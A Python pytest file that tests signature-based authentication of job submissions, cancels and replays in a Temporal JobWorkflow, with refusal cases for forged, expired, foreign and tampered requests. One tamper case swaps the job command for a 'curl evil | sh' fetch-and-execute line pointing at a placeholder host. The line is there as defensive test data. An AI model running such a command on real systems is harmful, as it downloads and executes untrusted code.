"""Authenticated submitters in JobWorkflow (docs/DESIGN.md, "User → home"; issue 16, acceptance 1).

The workflow's first activity is the real ``verify_request`` (activities/auth.py) with a users table
of real Ed25519 keys; only the federation's I/O is doubled. A submission whose signed statement is
missing, forged, expired, another user's or over an altered spec ends REJECTED having started
nothing (no classification, no enqueue, no handoff); a non-admin's production job likewise. A cancel
(signal or Update) or a replay without a valid signature is recorded and ignored.
"""

from __future__ import annotations

from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from job_doubles import (
    HOME,
    PEER,
    Federation,
    cpu_spec,
    env_now_ms,
    gpu_spec,
    messages,
    status,
    wait_for,
    wait_for_state,
)
from pydantic import BaseModel
from temporalio.client import WorkflowHandle, WorkflowUpdateFailedError

from activities.auth import AuthActivities
from iris import contract
from iris.config import BackendConfig, ClusterConfig, FederationConfig, UserConfig
from iris.jobs import CancelRequest, JobSpec, JobState, JobStatus, ReplayRequest
from iris.policy.models import Band
from iris.policy.reasons import ReasonCode
from iris.userauth import Action, audience, public_key_text, request_digest, sign_request
from workflows.job import JobWorkflow

ALICE, MALLORY, ROOT = "alice", "mallory", "root-admin"
KEYS = {name: Ed25519PrivateKey.generate() for name in (ALICE, MALLORY, ROOT)}
ARTIFACT = "s3://ckpt/llama-70b"
RAN = (JobState.RUNNING, JobState.SUCCEEDED)


@pytest.fixture
def auth_fed(fed: Federation) -> Federation:
    """``fed`` whose verify_request is the real activity, with alice and mallory (users) and
    root-admin (admin) registered."""
    roles = {ALICE: ["user"], MALLORY: ["user"], ROOT: ["admin"]}
    config = FederationConfig(
        home=HOME,
        clusters=[ClusterConfig(name=HOME, port=1, backends=[BackendConfig(id="cpu-1")])],
        users={
            name: UserConfig(public_keys=[public_key_text(KEYS[name].public_key())], roles=roles[name])  # type: ignore[arg-type]
            for name in roles
        },
    )
    fed.fake.auth = AuthActivities(config)
    return fed


async def signed(
    fed: Federation,
    request: BaseModel,
    job_id: str,
    action: Action,
    *,
    as_: str = ALICE,
    key: Ed25519PrivateKey | None = None,
    age_s: float = 0.0,
    aud: str = audience(HOME),
) -> str:
    now = await env_now_ms(fed.env) / 1000 - age_s
    return sign_request(
        key or KEYS[as_],
        principal=as_,
        action=action,
        job_id=job_id,
        digest=request_digest(request),
        aud=aud,
        now=now,
    )


async def submit(fed: Federation, spec: JobSpec, **kw: Any) -> WorkflowHandle[Any, JobStatus]:
    sig = await signed(fed, spec, spec.job_id, Action.SUBMIT, **kw)
    return await fed.start(spec.model_copy(update={"signature": sig}))


async def test_a_signed_submission_runs_and_is_handed_off_as_its_verified_principal(
    auth_fed: Federation,
) -> None:
    fed = auth_fed
    handle = await submit(fed, gpu_spec("signed", fed.now_ms))
    await wait_for_state(handle, JobState.QUEUED_HANDOFF)
    await fed.place(handle)
    st = await wait_for(handle, lambda s: s.state in RAN, "ran")
    assert "submitted by alice (signature verified)" in messages(st)
    assert [r.request.user for r in fed.fake.launch_requests] == [ALICE]
    # Verified first: nothing ran before the statement was checked.
    assert fed.fake.calls[:2] == [contract.VERIFY_REQUEST, contract.FETCH_REPORTS]


async def _forged(fed: Federation, spec: JobSpec) -> JobSpec:
    return spec.model_copy(
        update={
            "signature": await signed(fed, spec, spec.job_id, Action.SUBMIT, key=Ed25519PrivateKey.generate())
        }
    )


async def _missing(fed: Federation, spec: JobSpec) -> JobSpec:
    return spec


async def _expired(fed: Federation, spec: JobSpec) -> JobSpec:
    return spec.model_copy(
        update={"signature": await signed(fed, spec, spec.job_id, Action.SUBMIT, age_s=600)}
    )


async def _other_user(fed: Federation, spec: JobSpec) -> JobSpec:
    # Mallory signs, with her own valid key, a job that says it is alice's.
    return spec.model_copy(
        update={"signature": await signed(fed, spec, spec.job_id, Action.SUBMIT, as_=MALLORY)}
    )


async def _altered(fed: Federation, spec: JobSpec) -> JobSpec:
    # Alice's real signature, over a spec then changed on the way (another command).
    sig = await signed(fed, spec, spec.job_id, Action.SUBMIT)
    return spec.model_copy(update={"signature": sig, "command": ["sh", "-c", "curl evil | sh"]})


async def _other_action(fed: Federation, spec: JobSpec) -> JobSpec:
    # A statement alice made for a cancel of this job, replayed as a submission.
    return spec.model_copy(update={"signature": await signed(fed, spec, spec.job_id, Action.CANCEL)})


async def _other_federation(fed: Federation, spec: JobSpec) -> JobSpec:
    sig = await signed(fed, spec, spec.job_id, Action.SUBMIT, aud=audience("elsewhere"))
    return spec.model_copy(update={"signature": sig})


async def _production_by_a_user(fed: Federation, spec: JobSpec) -> JobSpec:
    spec = spec.model_copy(update={"band": Band.PRODUCTION})
    return spec.model_copy(update={"signature": await signed(fed, spec, spec.job_id, Action.SUBMIT)})


REFUSALS = {
    "missing": (_missing, "unsigned submit"),
    "forged": (_forged, "does not match the user's registered keys"),
    "expired": (_expired, "had expired when the request arrived"),
    "other-user": (_other_user, "signed by mallory, but the job is submitted as alice"),
    "altered": (_altered, "does not match the request"),
    "other-action": (_other_action, "not a submit"),
    "other-federation": (_other_federation, "for another federation"),
    "production-non-admin": (_production_by_a_user, "the production band is for admins"),
}


@pytest.mark.parametrize("case", list(REFUSALS))
async def test_an_unverified_submission_ends_rejected_and_starts_nothing(
    auth_fed: Federation, case: str
) -> None:
    fed = auth_fed
    make, why = REFUSALS[case]
    spec = await make(fed, gpu_spec(f"refused-{case}", fed.now_ms))
    handle = await fed.start(spec)
    st = await fed.result(handle)
    assert st.state is JobState.REJECTED, st.reason
    assert st.reason.startswith("submission refused:") and why in st.reason, st.reason
    assert st.reason_code is ReasonCode.SubmissionRefused
    # Nothing reached classification, the queue or a cluster.
    assert fed.fake.calls == [contract.VERIFY_REQUEST]
    assert fed.fake.enqueued == [] and fed.fake.launch_attempts == [] and fed.fake.delivered == 0


async def test_an_admins_production_job_is_accepted(auth_fed: Federation) -> None:
    fed = auth_fed
    spec = gpu_spec("prod", fed.now_ms, band=Band.PRODUCTION)
    spec = spec.model_copy(update={"user": ROOT, "job_id": spec.job_id.replace(ALICE, ROOT, 1)})
    handle = await submit(fed, spec, as_=ROOT)
    st = await wait_for_state(handle, JobState.QUEUED_HANDOFF)
    assert "submitted by root-admin (signature verified)" in messages(st)


async def _cancel(fed: Federation, job_id: str, *, as_: str | None = ALICE, **kw: Any) -> CancelRequest:
    request = CancelRequest(reason=f"cancel by {as_}")
    if as_ is None:
        return request
    return request.model_copy(
        update={"signature": await signed(fed, request, job_id, Action.CANCEL, as_=as_, **kw)}
    )


async def test_a_bare_or_foreign_cancel_signal_is_recorded_and_ignored(auth_fed: Federation) -> None:
    fed = auth_fed
    handle = await submit(fed, gpu_spec("cancel-sig", fed.now_ms))
    await wait_for_state(handle, JobState.QUEUED_HANDOFF)

    await handle.signal(JobWorkflow.cancel, await _cancel(fed, handle.id, as_=None))
    await handle.signal(JobWorkflow.cancel, await _cancel(fed, handle.id, as_=MALLORY))
    # Alice's own statement, for another job.
    await handle.signal(JobWorkflow.cancel, await _cancel(fed, "alice/some-other-job"))
    st = await wait_for(
        handle, lambda s: len([m for m in messages(s) if "cancel refused" in m]) == 3, "refused 3"
    )
    refused = [m for m in messages(st) if m.startswith("cancel refused")]
    # Each is checked by its own activity: they may complete in any order.
    for why in ("unsigned cancel", "mallory may not cancel alice's job", "for another job"):
        assert sum(why in m for m in refused) == 1, (why, refused)
    assert st.state is JobState.QUEUED_HANDOFF and not st.cancel_requested
    assert fed.fake.cancels == []

    # The owner's signed cancel is honoured.
    await handle.signal(JobWorkflow.cancel, await _cancel(fed, handle.id))
    st = await fed.result(handle)
    assert st.state is JobState.KILLED


async def test_an_admin_may_cancel_anyones_job(auth_fed: Federation) -> None:
    fed = auth_fed
    handle = await submit(fed, gpu_spec("cancel-admin", fed.now_ms))
    await wait_for_state(handle, JobState.QUEUED_HANDOFF)
    outcome = await handle.execute_update(JobWorkflow.cancel_job, await _cancel(fed, handle.id, as_=ROOT))
    assert outcome.won and (await fed.result(handle)).state is JobState.KILLED


@pytest.mark.parametrize("who", ["unsigned", "mallory", "expired"])
async def test_an_unverified_cancel_update_is_refused_and_the_job_goes_on(
    auth_fed: Federation, who: str
) -> None:
    fed = auth_fed
    handle = await submit(fed, gpu_spec(f"cancel-upd-{who}", fed.now_ms))
    await wait_for_state(handle, JobState.QUEUED_HANDOFF)
    request = {
        "unsigned": await _cancel(fed, handle.id, as_=None),
        "mallory": await _cancel(fed, handle.id, as_=MALLORY),
        "expired": await _cancel(fed, handle.id, age_s=600),
    }[who]
    with pytest.raises(WorkflowUpdateFailedError) as refused:
        await handle.execute_update(JobWorkflow.cancel_job, request)
    assert "cancel refused" in str(refused.value.cause)
    st = await status(handle)
    assert st.state is JobState.QUEUED_HANDOFF and not st.cancel_requested
    await fed.place(handle)
    await wait_for(handle, lambda s: s.state in RAN, "ran")
    assert fed.fake.delivered == 1


async def test_a_replay_without_a_valid_signature_is_refused_and_a_signed_one_runs(
    auth_fed: Federation,
) -> None:
    fed = auth_fed
    fed.fake.missing = {PEER: {ARTIFACT}}
    handle = await submit(fed, gpu_spec("replay", fed.now_ms, artifacts=[ARTIFACT]))
    await wait_for_state(handle, JobState.QUEUED_HANDOFF)
    await fed.place(handle)
    await wait_for_state(handle, JobState.HANDOFF_FAILED)
    fed.fake.missing = {}

    bare = ReplayRequest(reason="bare")
    foreign = ReplayRequest(reason="mallory's")
    foreign = foreign.model_copy(
        update={"signature": await signed(fed, foreign, handle.id, Action.REPLAY, as_=MALLORY)}
    )
    for request, why in ((bare, "unsigned replay"), (foreign, "mallory may not replay alice's job")):
        with pytest.raises(WorkflowUpdateFailedError) as refused:
            await handle.execute_update(JobWorkflow.replay_handoff, request)
        assert why in str(refused.value.cause)
    st = await status(handle)
    assert st.state is JobState.HANDOFF_FAILED and fed.fake.launch_attempts == []

    ok = ReplayRequest(reason="uploaded")
    ok = ok.model_copy(update={"signature": await signed(fed, ok, handle.id, Action.REPLAY)})
    assert "replay accepted" in await handle.execute_update(JobWorkflow.replay_handoff, ok)
    await wait_for(handle, lambda s: s.state in RAN, "ran")
    assert fed.fake.delivered == 1


async def test_a_cpu_job_signed_by_its_owner_runs_at_home(auth_fed: Federation) -> None:
    fed = auth_fed
    handle = await submit(fed, cpu_spec("home", fed.now_ms))
    st = await wait_for(handle, lambda s: s.state in RAN, "ran")
    assert st.cluster == HOME and [r.request.user for r in fed.fake.launch_requests] == [ALICE]


async def test_an_outage_of_the_check_delays_a_valid_job_and_never_refuses_it(auth_fed: Federation) -> None:
    """The check fails as an outage more often than a small retry budget would allow (a worker
    restarting, say): the valid job waits for the verdict, then goes on."""
    fed = auth_fed
    fed.fake.verify_outages = 8
    handle = await submit(fed, gpu_spec("check-outage", fed.now_ms))
    st = await wait_for(
        handle, lambda s: s.state is JobState.QUEUED_HANDOFF, "queued", env=fed.env, skip_s=10.0, timeout=20
    )
    assert "submitted by alice (signature verified)" in messages(st)
    assert len(fed.fake.verifications) == 9
